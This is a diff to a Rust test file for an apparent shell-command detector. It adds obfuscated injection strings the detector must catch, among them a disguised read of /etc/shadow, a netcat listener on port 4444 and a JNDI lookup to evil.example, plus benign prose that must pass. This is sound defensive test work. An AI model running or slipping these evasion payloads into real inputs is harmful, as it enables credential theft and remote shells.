@@ -200,6 +200,15 @@ fn shell_grammar_beyond_separators() {
             "'c'url localhost",
             "\"n\"map example",
             "aa-enforce nginx-profile",
+            // Brace expansions hiding the command, arithmetic, globs.
+            "{,uname,-a}",
+            "{/?i?/c?t,/etc/hosts}",
+            "$[3*7]",
+            ";cat /e't'*/sh'?d'ow",
+            "{n$x\\c$x,-lvp,4444}",
+            "`cut abc``dig x`",
+            "${::-x$}{jndi:ldap://evil.example/a}",
+            "x | python3.12",
         ],
     );
 }
@@ -220,6 +229,13 @@ fn prose_near_shell_grammar_is_clean() {
             "f(x) { return x | y; }",
             "render() { a | b; }",
             "50% off if score==100% today",
+            "$[0] and $['store'] select JSONPath nodes",
+            "**bold** and 2*3 = 6",
+            "Upgrade to python3.12 for speed",
+            "US$5 or pa$sword",
+            "/* old layout */ is still in the CSS file",
+            "/* explains the algorithm */",
+            "see /docs/*/index and /* notes */",
         ],
     );
 }
